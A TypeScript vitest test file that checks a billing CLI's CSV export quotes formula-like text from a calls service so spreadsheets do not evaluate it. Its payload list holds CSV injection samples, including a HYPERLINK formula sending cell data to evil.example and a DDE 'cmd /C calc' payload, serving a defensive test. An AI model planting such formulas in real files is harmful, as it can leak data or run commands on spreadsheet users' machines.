import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BILLING_COLUMNS, BILLING_DETAIL_COLUMNS } from '../../src/export/billing.js';
import { runCli } from '../helpers/cli.js';
import { syncWith, tempDir } from '../helpers/harness.js';
import { FakeCallsService } from '../reliability/support/fake-calls-service.js';
import { settingsAt } from '../reliability/support/matrix.js';

/**
 * Issue 13, point 5: text the service controls (call type, status, session id) reaches the billing
 * CSV that finance opens in a spreadsheet. Calls carrying formula-like text go through the real
 * sync over real HTTP into a real SQLite file; the real CLI exports them; the CSV is read back the
 * way a spreadsheet reads it (a lone CR or LF ends a row too).
 */
const NOW = Math.floor(Date.now() / 1000);
const DAY = 86_400;
const day = (t: number): string => new Date(t * 1000).toISOString().slice(0, 10);
const PERIOD = ['--from', day(NOW - 3 * DAY), '--to', day(NOW + 2 * DAY)];

/** Types (billing totals and detail), statuses and session ids (detail) a spreadsheet would run. */
const EVIL_TYPES = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\tTAB=1+1', '\r=CR+1', 'audio\rsplit,row'];
const EVIL_SESSION = '=v1.us.app1.formula';
const EVIL_STATUS = '@ended';

/** What a spreadsheet must show: the text with a leading quote when it starts like a formula. */
const shown = (text: string): string => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);

/** Splits CSV as a spreadsheet does: CRLF, LF and a lone CR all end a record outside quotes. */
function spreadsheetRows(csv: string): string[][] {
  return parse(csv, { record_delimiter: ['\r\n', '\n', '\r'], relax_column_count: true }) as string[][];
}

describe('billing CSV neutralises formula-like text from the service', () => {
  const tmp = tempDir();
  const db = `${tmp.dir}/calls.db`;
  let fake: FakeCallsService;

  beforeAll(async () => {
    fake = await FakeCallsService.start({ calls: 0, ongoing: 0 });
    EVIL_TYPES.forEach((type, i) => {
      fake.addCall({ at: NOW - DAY - i * 600, status: 'ended' }).type = type;
    });
    // One call whose session id and status are formula-like (the detail export shows both).
    const odd = fake.addCall({ at: NOW - 2 * DAY, status: 'ended' });
    odd.sessionId = EVIL_SESSION;
    odd.status = EVIL_STATUS;
    // A type already in the list: the totals export then has exactly one row per evil type.
    odd.type = EVIL_TYPES[2]!;
    const summary = await syncWith(settingsAt(fake.baseUrls('app1'), db));
    expect(['ok', 'partial']).toContain(summary.results[0]!.status);
  });
  afterAll(async () => {
    await fake.close();
    tmp.cleanup();
  });

  it('totals CSV: every row has the header width, formula-like types start with a quote, CR stays inside its quoted cell', async () => {
    const r = await runCli(['export', 'billing', '--database', db, ...PERIOD]);
    expect([r.code, r.stderr]).toEqual([0, '']);
    const rows = spreadsheetRows(r.stdout);
    const [header, ...body] = rows;
    expect(header).toEqual([...BILLING_COLUMNS]);
    for (const row of body) expect(row.length).toBe(header!.length);
    const typeAt = header!.indexOf('type');
    const types = body.map((row) => row[typeAt]!);
    for (const t of EVIL_TYPES) expect(types).toContain(shown(t));
    // No cell a spreadsheet would evaluate.
    for (const row of body) for (const cell of row) if (/^[=+@\t\r]/.test(cell)) expect.fail(`cell ${JSON.stringify(cell)} starts like a formula`);
    // One row per type and the app's total: a lone CR split no row.
    expect(body.length).toBe(EVIL_TYPES.length + 1);
    // Every field holding a CR or LF is quoted, so any CSV reader keeps it in one cell.
    expect(r.stdout).toContain('"audio\rsplit,row"');
    expect(r.stdout).toContain(`"'\r=CR+1"`);
  });

  it('--detail CSV: session id, type and status are neutralised, every row has the header width', async () => {
    const r = await runCli(['export', 'billing', '--database', db, ...PERIOD, '--detail']);
    expect([r.code, r.stderr]).toEqual([0, '']);
    const [header, ...body] = spreadsheetRows(r.stdout);
    expect(header).toEqual([...BILLING_DETAIL_COLUMNS]);
    for (const row of body) expect(row.length).toBe(header!.length);
    expect(body.length).toBe(EVIL_TYPES.length + 1);
    const col = (name: string): string[] => body.map((row) => row[header!.indexOf(name)]!);
    expect(col('session_id')).toContain(shown(EVIL_SESSION));
    expect(col('status')).toContain(shown(EVIL_STATUS));
    for (const t of EVIL_TYPES) expect(col('type')).toContain(shown(t));
    for (const row of body) for (const cell of row) if (/^[=+@\t\r]/.test(cell)) expect.fail(`cell ${JSON.stringify(cell)} starts like a formula`);
    // JSON is read by programs, not spreadsheets: it keeps the text exactly as the service sent it.
    const json = await runCli(['export', 'billing', '--database', db, ...PERIOD, '--detail', '--format', 'json']);
    const rows = JSON.parse(json.stdout) as { session_id: string; type: string; status: string }[];
    expect(rows.map((x) => x.type).sort()).toEqual([...EVIL_TYPES, EVIL_TYPES[2]!].sort());
    expect(rows.find((x) => x.session_id === EVIL_SESSION)?.status).toBe(EVIL_STATUS);
  });
});
